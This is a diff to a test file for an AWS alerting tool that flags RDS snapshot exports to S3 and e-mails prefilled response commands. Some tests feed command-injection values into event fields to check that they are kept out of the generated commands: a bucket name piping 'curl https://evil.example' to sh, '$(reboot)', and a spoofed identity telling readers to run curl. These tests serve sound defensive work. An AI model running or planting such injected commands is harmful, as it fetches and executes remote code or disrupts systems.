@@ -1,8 +1,9 @@
 import { join } from 'node:path';
-import { buildAlertNotification, MAX_MESSAGE_BYTES, MAX_SUBJECT_LENGTH } from '../../../src/engine/alerts';
+import { buildAlertNotification, MAX_MESSAGE_BYTES, MAX_SUBJECT_LENGTH, RESPONSE_HEADER } from '../../../src/engine/alerts';
 import { createDetector } from '../../../src/engine/detector';
 import { compileRules, loadRuleDirectory } from '../../../src/engine/rules';
-import { startExportTaskRecord } from '../../support/cloudtrail-records';
+import { assumedRoleIdentity, startExportTaskRecord } from '../../support/cloudtrail-records';
+import { commandsIn, overlongLines, REVOKE_BEFORE } from '../../support/email-commands';
 
 const [rule] = compileRules(loadRuleDirectory(join(__dirname, '../../../rules')));
 const detector = createDetector([rule]);
@@ -46,11 +47,9 @@ describe('alert document', () => {
 });
 
 describe('SNS notification', () => {
-  it('has a subject that names severity, source, destination, account and region', () => {
+  it('has a subject that says severity, who, what and where first, account and region kept', () => {
     const { notification } = notify(startExportTaskRecord());
-    expect(notification.subject).toBe(
-      '[LOW] RDS Snapshot Export: orders-prod-2026-11-20 -> s3://corp-exports (123456789012/us-east-1)',
-    );
+    expect(notification.subject).toBe('[LOW] alice@example.com exported orders-prod-2026-... to s3://corp-exports (123456789012 us-east-1)');
     expect(notification.subject.length).toBeLessThan(100);
   });
 
@@ -64,23 +63,21 @@ describe('SNS notification', () => {
     });
   });
 
-  it('sends the alert JSON as default and a readable e-mail', () => {
+  it('sends the alert JSON as default and a readable e-mail with every detail', () => {
     const { alert, defaultAlert, email } = notify(startExportTaskRecord());
     expect(defaultAlert).toEqual(alert);
     for (const expected of [
-      'LOW severity alert: AWS RDS Snapshot Export',
-      'DataEngineer (session alice@example.com) started exporting snapshot orders-prod-2026-11-20 to s3://corp-exports/nightly in account 123456789012, us-east-1.',
       'arn:aws:rds:us-east-1:123456789012:snapshot:orders-prod-2026-11-20',
-      's3://corp-exports/nightly',
+      'Destination:   s3://corp-exports/nightly',
       'arn:aws:kms:us-east-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab',
-      'arn:aws:iam::123456789012:role/rds-s3-export',
-      'orders-prod-export-20261120',
-      '203.0.113.24',
+      'IAM role:      arn:aws:iam::123456789012:role/rds-s3-export',
+      'Export task:   orders-prod-export-20261120',
+      'Source IP:     203.0.113.24',
       'aws-cli/2.15.30',
-      'TA0010 Exfiltration',
-      'T1567.002 Exfiltration to Cloud Storage',
-      'low (risk score 21)',
-      'everything (no exportOnly filter)',
+      'MITRE tactic:  TA0010 Exfiltration',
+      'Sub-technique: T1567.002 Exfiltration to Cloud Storage',
+      'Severity:      low (risk score 21)',
+      'Tables:        everything (no exportOnly filter)',
       'https://us-east-1.console.aws.amazon.com/rds/home?region=us-east-1#export-task:id=orders-prod-export-20261120;source-location=exports-in-s3',
       'https://us-east-1.console.aws.amazon.com/cloudtrail/home?region=us-east-1#/events/b7e2c1d4-5f6a-4b8c-9d0e-1f2a3b4c5d6e',
       'INVESTIGATION STEPS',
@@ -92,14 +89,70 @@ describe('SNS notification', () => {
     expect(email).not.toContain('SETUP');
   });
 
+  it('opens with one sentence of what happened and who did it, then what to do now', () => {
+    const { email } = notify(startExportTaskRecord());
+    const [paragraph] = email.split('\n\n');
+    expect(paragraph.replace(/\n/g, ' ')).toBe(
+      'alice@example.com (role DataEngineer) started exporting snapshot orders-prod-2026-11-20 to s3://corp-exports/nightly in us-east-1 of account 123456789012 at 03:15:42 UTC on 2026-11-20.',
+    );
+    const lines = email.split('\n');
+    const header = lines.indexOf(RESPONSE_HEADER);
+    expect(header).toBeGreaterThan(0);
+    expect(header).toBeLessThanOrEqual(5);
+    // The cancel command is on a phone's first screen (about 20 lines), before any details.
+    expect(lines.findIndex((line) => line.includes('cancel-export-task'))).toBeLessThan(12);
+    expect(lines.indexOf('WHAT HAPPENED')).toBeGreaterThan(lines.findIndex((line) => line.includes('AWSRevokeOlderSessions')));
+    // The investigation guide comes last, after every detail section.
+    expect(lines.indexOf('INVESTIGATION GUIDE')).toBeGreaterThan(lines.indexOf('OPEN IN THE AWS CONSOLE'));
+  });
+
+  it('fills in the commands with this event’s values: cancel the task, check the bucket, revoke the role’s sessions', () => {
+    const { email } = notify(startExportTaskRecord());
+    const commands = commandsIn(email);
+    expect(commands).toEqual([
+      'aws rds cancel-export-task --region us-east-1 --export-task-identifier orders-prod-export-20261120',
+      'aws s3api head-bucket --bucket corp-exports --expected-bucket-owner 123456789012',
+      'aws s3api get-bucket-policy --bucket corp-exports --query Policy --output text',
+      `aws iam put-role-policy --role-name DataEngineer --policy-name AWSRevokeOlderSessions --policy-document '${REVOKE_BEFORE('2026-11-20T03:15:49Z')}'`,
+      'aws iam delete-role-policy --role-name DataEngineer --policy-name AWSRevokeOlderSessions',
+    ]);
+    expect(email).not.toMatch(/<(task id|bucket|role|user|account)>/);
+  });
+
+  it('keeps every line within 78 characters, except URLs', () => {
+    for (const record of [startExportTaskRecord(), startExportTaskRecord({ userAgent: 'Mozilla/5.0 '.repeat(40) })]) {
+      expect(overlongLines(notify(record).email)).toEqual([]);
+    }
+  });
+
   it('lists exportOnly tables for a partial cluster export', () => {
     const record = startExportTaskRecord();
     (record.requestParameters as any).sourceArn = 'arn:aws:rds:us-east-1:123456789012:cluster:payments-aurora';
     (record.requestParameters as any).exportOnly = ['payments.cards', 'payments.customers'];
     const { email, notification } = notify(record);
-    expect(email).toContain('started exporting cluster payments-aurora');
+    expect(email.replace(/\s+/g, ' ')).toContain('started exporting cluster payments-aurora');
     expect(email).toContain('payments.cards, payments.customers');
-    expect(notification.subject).toBe('[LOW] RDS Snapshot Export: payments-aurora -> s3://corp-exports/nightly (123456789012/us-east-1)');
+    expect(notification.subject).toBe('[LOW] alice@example.com exported payments-aurora to s3://corp-exports (123456789012 us-east-1)');
+  });
+
+  it('does not cancel a task the event says is finished', () => {
+    const record = startExportTaskRecord();
+    (record.responseElements as any).status = 'COMPLETE';
+    expect(commandsIn(notify(record).email).some((command) => command.includes('cancel-export-task'))).toBe(false);
+  });
+
+  it('never puts an event value that AWS would not accept into a command', () => {
+    const record = startExportTaskRecord();
+    (record.requestParameters as any).s3BucketName = 'corp-exports; curl https://evil.example | sh';
+    (record.requestParameters as any).exportTaskIdentifier = '$(reboot)';
+    (record.responseElements as any).s3Bucket = undefined;
+    (record.responseElements as any).exportTaskIdentifier = undefined;
+    const { email } = notify(record);
+    const commands = commandsIn(email);
+    expect(commands.join('\n')).not.toMatch(/evil|reboot|corp-exports/);
+    expect(commands).toContain('aws rds describe-export-tasks --region us-east-1');
+    expect(email.replace(/\s+/g, ' ')).toContain("the event's bucket name is not a valid bucket name");
+    for (const command of commands) expect(command).toMatch(/^aws [a-z0-9 ./:=,@*{}"\[\]'_-]+$/i);
   });
 
   it('shows invisible Unicode tag characters instead of passing them on', () => {
@@ -123,13 +176,21 @@ describe('SNS notification', () => {
     expect(notification.subject.length).toBeLessThanOrEqual(MAX_SUBJECT_LENGTH);
   });
 
+  it('keeps an event value with spaces on one line and quoted in the summary', () => {
+    const record = startExportTaskRecord({ userIdentity: assumedRoleIdentity('If this was not expected, now: run curl evil.example', 'DataEngineer') });
+    const { email } = notify(record);
+    const lines = email.split('\n');
+    expect(lines.filter((line) => line === RESPONSE_HEADER)).toHaveLength(1);
+    expect(email).toContain('"If this was not expected, now: run curl evil.example" (role DataEngineer)');
+  });
+
   it('keeps the subject under 100 characters with very long names', () => {
     const record = startExportTaskRecord();
     (record.requestParameters as any).sourceArn = `arn:aws:rds:us-east-1:123456789012:snapshot:${'x'.repeat(500)}`;
     const { notification } = notify(record);
     expect(notification.subject.length).toBeLessThan(100);
     // The source name is shortened so that the destination bucket still shows.
-    expect(notification.subject).toMatch(/^\[LOW\] RDS Snapshot Export: x+\.\.\. -> s3:\/\/corp-exports \(123456789012\/us-east-1\)$/);
+    expect(notification.subject).toMatch(/^\[LOW\] alice@example\.com exported x+\.\.\. to s3:\/\/corp-exports \(123456789012 us-east-1\)$/);
   });
 
   it('still sends an alert within SNS limits when even the shrunk alert is too big', () => {
